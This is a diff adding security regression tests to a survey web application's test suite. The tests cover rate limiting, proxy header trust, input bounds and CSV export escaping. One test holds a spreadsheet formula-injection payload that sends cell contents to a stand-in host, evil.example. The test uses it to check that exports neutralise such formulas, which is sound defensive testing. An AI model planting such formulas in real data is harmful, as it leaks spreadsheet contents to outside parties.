@@ -408,3 +408,163 @@ def test_host_prefixed_cookies_in_prod(tmp_path: Path) -> None:
         assert session and "secure" in session[0].lower() and "path=/" in session[0].lower()
         assert "domain=" not in session[0].lower()
         assert client.get("/admin/keys", follow_redirects=False).status_code == 200
+
+
+# ----- lower severity -------------------------------------------------------------------------
+
+
+def _respondents(url: str) -> int:
+    from sqlalchemy import func, select
+    from sqlmodel import Session
+
+    from app.db import make_engine
+    from app.tables import Respondent
+
+    engine = make_engine(url)
+    try:
+        with Session(engine) as db:
+            return int(db.exec(select(func.count()).select_from(Respondent)).scalar_one())  # type: ignore[call-overload]
+    finally:
+        engine.dispose()
+
+
+def test_respondent_pages_are_rate_limited(world: HostileWorld) -> None:
+    """60 consents from one address in a few seconds create at most the limit (30)."""
+    from app.settings import Settings
+
+    limit = Settings().respondent_start_rate_limit_per_minute
+    url = f"{world.server.base}/s/{world.live.slug}/consent"
+    before = _respondents(world.live.url)
+    statuses = []
+    for _ in range(60):
+        with httpx.Client() as browser:  # a new browser each time: no respondent cookie
+            statuses.append(browser.post(url, data={"choice": "accept"}).status_code)
+    created = _respondents(world.live.url) - before
+    assert created <= limit, (created, statuses)
+    assert statuses.count(429) >= 60 - limit, statuses
+    refused = httpx.post(url, data={"choice": "accept"})
+    assert refused.status_code == 429 and int(refused.headers["retry-after"]) > 0
+    assert "try again" in refused.text and "<html" in refused.text.lower()
+
+
+def test_csv_exports_neutralise_formulas(world: HostileWorld) -> None:
+    live = world.live
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    r = httpx.post(
+        f"{world.server.base}/api/v1/studies/{live.slug}/sessions",
+        json={"external_id": formula},
+        headers={"Authorization": f"Bearer {live.owner_key}"},
+    )
+    assert r.status_code == 201, r.text
+    with admin_client(world.server) as admin:
+        for name in ("answers_wide.csv", "answers_long.csv"):
+            text = admin.get(f"/admin/studies/{live.slug}/export/{name}").text
+            if name == "answers_wide.csv":
+                assert "'=HYPERLINK(" in text, text[:500]
+            for line in text.splitlines():
+                for cell in line.split(","):
+                    assert not cell.lstrip('"').startswith(("=", "+", "@")), line
+
+
+def test_study_settings_refuse_infinite_and_absurd_values(world: HostileWorld) -> None:
+    from sqlmodel import Session, select
+
+    from app.db import make_engine
+    from app.tables import Study
+
+    live = world.live
+    with admin_client(world.server) as admin:
+        for field, value in (
+            ("stop_eig_threshold", "inf"),
+            ("stop_entropy_threshold", "nan"),
+            ("max_questions", str(10**20)),
+            ("rounds", str(10**20)),
+            ("total_answers", str(10**20)),
+        ):
+            form = {"criterion": "eig", "max_questions": "10", "rounds": "4", field: value}
+            r = admin.post(f"/admin/studies/{live.slug}/settings", data=form)
+            assert r.status_code == 422, (field, r.status_code)
+            assert field in r.text, field
+    engine = make_engine(live.url)
+    try:
+        with Session(engine) as db:
+            settings = db.exec(select(Study.settings).where(Study.slug == live.slug)).one()
+    finally:
+        engine.dispose()
+    assert "inf" not in str(settings).lower() and "1e+20" not in str(settings)
+    created = httpx.post(
+        f"{world.server.base}/api/v1/studies/{live.slug}/sessions",
+        json={},
+        headers={"Authorization": f"Bearer {live.owner_key}"},
+    )
+    assert created.status_code == 201, created.text  # new sessions still start
+
+
+def test_long_slug_is_not_echoed_and_options_lists_methods(world: HostileWorld) -> None:
+    base, live = world.server.base, world.live
+    slug = "x" * 50_000
+    with admin_client(world.server) as admin:
+        page = admin.get(f"/admin/studies/{slug}")
+    api = httpx.post(
+        f"{base}/api/v1/studies/{slug}/sessions",
+        json={},
+        headers={"Authorization": f"Bearer {live.owner_key}"},
+    )
+    for r in (page, api):
+        assert r.status_code < 500
+        assert "x" * 1000 not in r.text and len(r.text) < 20_000
+    r = httpx.options(f"{base}/api/v1/sessions/1")
+    assert r.status_code == 204
+    assert {m.strip() for m in r.headers["allow"].split(",")} == {"GET", "DELETE", "OPTIONS"}
+    r = httpx.options(f"{base}/api/v1/sessions/1/answers")
+    assert {m.strip() for m in r.headers["allow"].split(",")} == {"POST", "OPTIONS"}
+
+
+def test_trusted_proxies_setting(tmp_path: Path) -> None:
+    """X-Forwarded-For names the client only for a request from PRIORLY_TRUSTED_PROXIES."""
+    from fastapi.testclient import TestClient
+
+    from app.db import upgrade
+    from app.main import create_app
+    from app.settings import Settings
+
+    url = f"sqlite:///{tmp_path / 'proxy.db'}"
+    upgrade(url)
+    for trusted, second in (("testclient", 303), ("127.0.0.1", 429)):
+        settings = Settings(
+            database_url=url,
+            trusted_proxies=trusted,
+            respondent_start_rate_limit_per_minute=1,
+        )
+        with TestClient(create_app(settings)) as client:
+            statuses = []
+            for address in (f"203.0.113.{trusted == 'testclient'}", "198.51.100.7"):
+                r = client.post(
+                    "/s/no-such-study/consent",
+                    data={"choice": "accept"},
+                    headers={"X-Forwarded-For": address},
+                    follow_redirects=False,
+                )
+                statuses.append(r.status_code)
+            # one start per address and minute: two addresses pass only when believed
+            assert statuses[0] != 429 and (statuses[1] == 429) == (second == 429), statuses
+
+
+def test_postgres_url_without_the_driver_is_one_line(tmp_path: Path) -> None:
+    import os
+    import subprocess
+    import sys
+
+    from conftest import REPO_ROOT
+
+    code = (
+        "import sys; sys.modules['psycopg'] = None; from app.cli import main; "
+        "sys.exit(main(['db', 'upgrade']))"
+    )
+    env = {**os.environ, "PRIORLY_DATABASE_URL": "postgresql+psycopg://u@127.0.0.1:1/x"}
+    r = subprocess.run(
+        [sys.executable, "-c", code], env=env, cwd=REPO_ROOT, capture_output=True, text=True
+    )
+    assert r.returncode == 2, r.stderr
+    lines = r.stderr.strip().splitlines()
+    assert len(lines) == 1 and "pip install 'priorly[postgres]'" in lines[0], r.stderr
